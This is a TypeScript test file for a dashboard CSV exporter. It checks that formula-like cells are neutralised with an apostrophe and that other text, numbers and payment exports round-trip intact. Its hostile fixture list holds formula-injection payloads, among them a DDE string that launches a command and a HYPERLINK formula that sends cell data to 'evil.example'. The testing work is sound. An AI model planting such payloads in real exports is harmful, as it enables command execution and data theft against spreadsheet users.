import { describe, expect, it } from 'vitest';
import * as fc from 'fast-check';
import { csvOf } from '../../../dashboard/exports/csv.ts';
import { openGround } from '../harness.ts';
import { makePayment } from '../../support/rows/payment.ts';
import { download, parseCsv, rowsOf } from './download.ts';

const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\tx',
  '\rx',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '-',
];
const HARMLESS = [
  'a,b',
  'a "quoted" b',
  '"',
  'two\nlines',
  'two\rlines',
  'two\r\nlines',
  ' = 1',
  "'=1",
  'Շնորհակալություն՝ «թեյ»',
  'Спасибо',
  '日本語 🫖',
  'e\u0301',
  '\u0000',
];

const read = (text: string): string[][] => parseCsv(new TextEncoder().encode(`\uFEFF${text}`));
/** Every character with a meaning, and some without. */
const UNIT = fc.constantFrom(...Array.from('",;\r\n=+-@\t\'\\ aԲя🫖＝\uFEFF'));
const isFormula = (text: string): boolean => /^[=+\-@\t\r＝＋－＠]/.test(text);

describe('csvOf', () => {
  it.each(HOSTILE)('puts an apostrophe before a formula: %j', (text) => {
    expect(read(csvOf([[text, 'b']]))).toEqual([[`'${text}`, 'b']]);
  });

  it.each(HARMLESS)('keeps other texts: %j', (text) => {
    expect(read(csvOf([['a', text]]))).toEqual([['a', text]]);
  });

  it('keeps numbers as numbers, and null as an empty cell', () => {
    expect(csvOf([[-5, 0, 1_999, null, 'a']])).toBe('-5,0,1999,,a\r\n');
  });

  it('can be read back, whatever the texts are', () => {
    const cells = fc.array(fc.string({ unit: UNIT }), { minLength: 2, maxLength: 5 });
    fc.assert(
      fc.property(fc.array(cells, { minLength: 1 }), (rows) => {
        const expected = rows.map((row) =>
          row.map((text) => (isFormula(text) ? `'${text}` : text)),
        );
        expect(read(csvOf(rows))).toEqual(expected);
      }),
    );
  });
});

const ground = await openGround('dashboard-csv');
const { mongo, tenant: m } = ground;

describe('an export of hostile texts', () => {
  it('has one line for each payment, and every text in its cell', async () => {
    const texts = [...HOSTILE, ...HARMLESS];
    await mongo.payments.insertMany(
      texts.map((description) => makePayment({ m, description, metadata: { note: description } })),
    );
    const owner = await ground.signIn('owner');
    const { lines } = await download(ground, owner, '/exports/payments.csv');
    const rows = rowsOf(lines).toReversed();
    expect(rows.map(({ description }) => description)).toEqual(
      texts.map((text) => (isFormula(text) ? `'${text}` : text)),
    );
    expect(rows.map(({ metadata }) => JSON.parse(metadata!).note)).toEqual(texts);
    expect(new Set(rows.map(({ amount_minor: amount }) => amount))).toEqual(new Set(['12500']));
  });
});
